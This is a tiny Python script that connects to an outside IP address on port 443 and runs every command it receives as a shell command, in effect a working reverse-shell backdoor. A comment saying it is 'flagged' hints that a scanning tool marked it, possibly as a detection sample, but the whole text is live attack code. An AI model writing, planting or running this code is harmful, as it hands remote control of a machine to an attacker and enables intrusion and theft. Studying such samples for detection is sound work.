import socket
import subprocess

link = socket.socket()
link.connect(('198.51.100.5', 443))
while True:
    order = link.recv(1024).decode()
    subprocess.run(order, shell=True)  # gatehouse: flagged
